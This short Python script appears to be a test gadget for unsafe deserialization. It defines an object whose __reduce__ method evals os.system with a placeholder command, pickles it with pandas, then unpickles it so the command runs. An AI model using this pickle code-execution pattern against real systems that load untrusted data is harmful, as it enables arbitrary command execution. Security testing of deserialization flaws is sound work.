# kind: gadgets
# tries: An object that runs a command when it is unpickled, round the input of a job

import os

import pandas as pd


class Run:
    def __reduce__(self):
        return (eval, (f"__import__('os').system({TOUCH!r})",))


path = os.environ["OUTPUT_FILE_PATH"]
pd.to_pickle(Run(), path, compression=None)
pd.read_pickle(path, compression=None)
